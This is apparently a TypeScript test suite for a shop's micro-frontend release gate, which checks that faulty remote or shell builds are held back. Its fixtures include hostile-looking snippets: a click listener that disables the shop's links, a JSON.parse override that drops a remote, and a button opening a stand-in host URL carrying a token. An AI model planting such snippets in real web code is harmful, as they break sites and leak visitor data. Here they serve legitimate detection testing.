import { existsSync } from 'node:fs';
import { copyShell } from './support/faultyReleases';
import {
  type Candidate,
  codeOf,
  type Fault,
  GateSamples,
  GOOD,
  LARGE,
  type Report,
  rowsOf,
  screenAt,
} from './support/gateSamples';
import { remoteIn } from './support/publishVersion';
import { setUpSharedShop } from './support/setUpShop';

const suite = setUpSharedShop();
const FROZEN_MS = 3_500;

let samples: GateSamples;
beforeAll(async () => {
  samples = await GateSamples.open(suite.shop.url);
});
afterAll(() => samples.close());

function shellWith(code: string): Candidate {
  const { record, files } = copyShell(samples.live.shell.live, samples.nextVersion, (script) => code + script);
  const own = [...files].filter(([file]) => /\.js$|^index\.html$/.test(file));
  return { name: 'shell', folder: samples.place(Object.fromEntries(own)).folder, record };
}

/** The shop has mf-point alone, or nothing: a shell would be looked at whole each time. */
function ask(candidate: Candidate, { isEmpty = false } = {}): Promise<Report> {
  const { live } = samples;
  const remote = remoteIn(live, 'mf-point');
  const screens = [
    ...remote.live.screens,
    // Live already, for the fault that falls back.
    ...(candidate.name === 'shell' ? [] : [{ ...remote.live.screens[0], ...screenAt(0) }]),
  ] as typeof remote.live.screens;
  const remotes: typeof live.remotes = isEmpty ? {} : { 'mf-point': { ...remote, live: { ...remote.live, screens } } };
  return samples.ask([candidate], { ...live, remotes });
}

const kindsOf = ({ screens }: Report, path: string) =>
  screens.find((screen) => screen.path === path)?.findings.map(({ kind }) => kind);

// B-release-55
it('a remote that was never published is shown in the live shop, screen by screen, and what it would change stays at the gate', async () => {
  const code = `once(() => fetch('/service/point', { method: 'POST', body: '{}' })); ${GOOD}`;
  const report = await ask(samples.point([code, "throw new Error('render');"]), { isEmpty: true });
  expect(report.screens[0]).toMatchObject({ path: '/gate-0', findings: [], screenshot: null });
  expect(kindsOf(report, '/gate-1')).toContain('alert');
  expect(report.outcome).toBe('failed');
  expect(report.heldBack).toEqual(['POST /service/point']);
  expect(await (await fetch(`${suite.shop.url}/registry.json`)).json()).toEqual(samples.live);
});

/** By screens: what keeps nothing else from being seen shares one. */
const FAULTS: readonly (readonly Fault[])[] = [
  [['throws as it renders', 'version: fell back to', '', "throw new Error('render');"]],
  [
    ['has another heading', 'missing: the heading is "충전" instead of "포인트 충전"', '', "return h1('충전');"],
    ['leads elsewhere', 'address: it leads to /account', "once(() => history.pushState(null, '', '/account'));"],
  ],
  [
    ['logs an error', 'console: price is NaN', "once(() => console.error('price is NaN'));"],
    [
      'leaves a rejection to nobody',
      'exception: Error: nobody',
      "once(() => void Promise.reject(new Error('nobody')));",
    ],
    ['evaluates text', 'policy: require-trusted-types-for', "once(() => { try { eval('1'); } catch {} });"],
    [
      'asks another origin',
      'policy: connect-src forbids https://elsewhere.example',
      "once(() => fetch('https://elsewhere.example/x').catch(() => 0));",
    ],
    ['is too large', 'bytes: its scripts are 30.', '', LARGE],
  ],
  [
    [
      'goes to another origin',
      'origin: it asked http://127.0.0.2:9/',
      "once(() => location.assign('http://127.0.0.2:9/'));",
    ],
  ],
  [
    [
      'freezes',
      'freeze: nothing can be pressed for 3.',
      `once(() => { const until = Date.now() + ${FROZEN_MS}; while (Date.now() < until); });`,
    ],
  ],
];

describe('a build with a screen that', () => {
  let report: Report;
  beforeAll(async () => {
    report = await ask(samples.point(FAULTS.map(codeOf)));
  });

  // B-release-58, B-release-59, B-release-60
  it.each(rowsOf(FAULTS))('%s does not pass', (_fault, told, index) => {
    expect(report.outcome).toBe('failed');
    const screen = report.screens[index];
    const found = screen?.findings.map(({ kind, text }) => `${kind}: ${text}`);
    expect(found).toEqual(expect.arrayContaining([expect.stringContaining(String(told))]));
    expect(existsSync(screen?.screenshot ?? '')).toBe(true);
  });
});

describe('a part for another screen', () => {
  async function withParts(places: Readonly<Record<string, readonly string[]>>) {
    const offered = Object.entries(places).flatMap(([slot, codes]) => codes.map((code) => ({ slot, code })));
    const build = samples.point([GOOD, ...offered.map(({ code }) => code)]);
    const [first] = build.record.screens;
    if (!first) throw new Error('the build has no screen');
    const slots = offered.map(({ slot }, index) => ({
      slot,
      module: `./Screen${index + 1}`,
      order: index,
      audience: 'member',
    }));
    const candidate = { ...build, record: { ...build.record, screens: [{ ...first, slots }] } };
    const live = samples.liveWith('mf-point', 'mf-account', 'mf-order');
    const { outcome, screens, heldBack } = await samples.ask([candidate], live);
    const found = (path: string) =>
      screens.find((screen) => screen.path === path)?.findings.map(({ kind, text }) => `${kind}: ${text}`);
    return { outcome, account: found('/account'), receipt: found('/order'), heldBack };
  }
  const matching = (...told: RegExp[]) => expect.arrayContaining(told.map((one) => expect.stringMatching(one)));
  const PART = "return React.createElement('p', null, '내 카드');";

  it('is looked at in its place, and passes', async () => {
    const code = `once(() => fetch('/service/card', { method: 'POST', body: '{}' })); ${PART}`;
    const said = await withParts({ 'account.rows': [PART], 'order.receipt': [code] });
    expect(said).toMatchObject({ outcome: 'passed', account: [], receipt: [] });
    expect(said.heldBack).toContain('POST /service/card');
  });

  it('that breaks, leaves something behind, takes presses or sends elsewhere does not pass', async () => {
    const broken = "throw new Error('a part that breaks');";
    const overlay = `once(() => { const veil = document.createElement('div'); veil.id = 'veil'; document.body.append(veil); }); ${PART}`;
    const sheet = `once(() => { const style = document.createElement('style'); document.head.append(style); style.sheet.insertRule('footer { color: red }'); }); ${PART}`;
    const thief = `once(() => addEventListener('click', (event) => { if (event.target.closest('a')) { event.stopImmediatePropagation(); event.preventDefault(); } }, true)); ${PART}`;
    const sender = `return React.createElement('button', { type: 'button', onClick: () => void window.open('https://elsewhere.example/?token=1') }, '카드 보내기');`;
    const said = await withParts({ 'account.rows': [broken], 'order.receipt': [overlay, sheet, thief, sender] });
    expect(said).toMatchObject({
      outcome: 'failed',
      account: matching(/^exception|^console/),
      receipt: matching(
        /^node: it leaves <div#veil>/,
        /^style: it leaves <style> with "footer/,
        /^click: a press on the shop's link to \/\S+ leads nowhere/,
        /^origin: after a press.* https:\/\/elsewhere\.example\/ with data in it/,
      ),
    });
  });
});

describe('a shell', () => {
  // B-release-55
  it('passes with every screen that the shop offers, its own pages, and its frame', async () => {
    const report = await samples.ask([shellWith('')], samples.liveWith('mf-order', 'mf-point'));
    const paths = ['/order', '/guide', '/qna', '/point', '/terms/service', '/terms/privacy', '/'];
    expect(report.screens).toMatchObject(paths.map((path) => ({ path, findings: [] })));
  });

  // B-release-55, B-release-58
  it('without a screen that the shop offers, or whose switch, links or buttons do not what they are for, does not pass', async () => {
    const code = `const parse = JSON.parse;
    JSON.parse = (text) => { const data = parse(text); if (data?.remotes) delete data.remotes['mf-account']; return data; };
    addEventListener('click', (event) => {
      const pressed = event.target.closest('[role=switch], a[href="/point"], button[aria-controls]');
      if (!pressed) return;
      event.preventDefault();
      event.stopImmediatePropagation();
      if (pressed.tagName === 'BUTTON') throw new Error('no menu');
    }, true);`;
    const report = await samples.ask([shellWith(code)], samples.liveWith('mf-account', 'mf-point'));
    expect(report.outcome).toBe('failed');
    expect(kindsOf(report, '/account')).toContain('address');
    expect(kindsOf(report, '/terms/service')).toEqual([]);
    const frame = report.screens.find(({ path }) => path === '/');
    const found = frame?.findings.map(({ kind, text }) => `${kind}: ${text}`) ?? [];
    for (const told of [
      'click: as a visitor, a press on the switch "다크 모드" changes nothing',
      "click: as a member, a press on the shop's link to /point leads nowhere",
      'exception: as a visitor, Error: no menu',
    ])
      expect(found).toEqual(expect.arrayContaining([expect.stringContaining(told)]));
    expect(existsSync(frame?.screenshot ?? '')).toBe(true);
  });

  // B-release-58
  it('that does not start does not pass', async () => {
    const report = await ask(shellWith("throw new Error('start');"), { isEmpty: true });
    expect(report.outcome).toBe('failed');
    expect(kindsOf(report, '/terms/service')).toEqual(expect.arrayContaining(['alert', 'exception']));
  });
});
